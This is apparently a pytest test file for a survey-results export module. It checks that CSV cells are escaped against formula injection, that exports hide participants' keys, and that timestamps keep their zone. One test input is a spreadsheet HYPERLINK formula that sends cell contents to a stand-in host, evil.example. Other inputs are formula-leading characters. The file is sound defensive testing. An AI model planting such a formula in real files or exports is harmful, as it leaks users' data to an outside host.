from __future__ import annotations

import csv
import io
import json

import pytest

from gateway.results.export import to_csv, to_json
from gateway.runtime import Runtime
from tests.helpers import load_examples, make_intake, make_participant, record

BASE = {"frequentation": "yes", "priorite": "jeux", "satisfaction": 4}


@pytest.mark.parametrize(
    ("idea", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        ),
        ("+33 6 12", "'+33 6 12"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1+1", "'＝1+1"),
        ("＋33 6", "'＋33 6"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("bancs\x00=1+1", "'bancs\ufffd=1+1"),
        ("Des bancs à l'ombre", "Des bancs à l'ombre"),
    ],
)
def test_csv_cells_never_run_as_formulas(sqlite_runtime: Runtime, idea: str, cell: str) -> None:
    load_examples(sqlite_runtime)
    record(sqlite_runtime, make_intake("PARC", {**BASE, "idee": idea}))
    with sqlite_runtime.sessions() as session:
        rows = list(csv.DictReader(io.StringIO(to_csv(session, "PARC"))))
    assert [r["value"] for r in rows if r["question_id"] == "idee"] == [cell]


def test_exports_are_pseudonymous(sqlite_runtime: Runtime) -> None:
    load_examples(sqlite_runtime)
    person = make_participant("+33612345678")
    record(sqlite_runtime, make_intake("PARC", BASE, participant=person))
    with sqlite_runtime.sessions() as session:
        exported = to_csv(session, "PARC") + to_json(session, "PARC")
    # A per-export pseudonym stands for the participant; the stored key never leaves.
    assert person.key_hash not in exported and "key_hash" not in exported


def test_export_times_carry_their_zone(runtime: Runtime) -> None:
    load_examples(runtime)
    record(runtime, make_intake("PARC", BASE))
    with runtime.sessions() as session:
        rows = list(csv.DictReader(io.StringIO(to_csv(session, "PARC"))))
        exported = json.loads(to_json(session, "PARC"))
    assert rows[0]["submitted_at"] == "2026-12-01T12:00:00+00:00"
    assert exported["contributions"][0]["submitted_at"] == "2026-12-01T12:00:00+00:00"
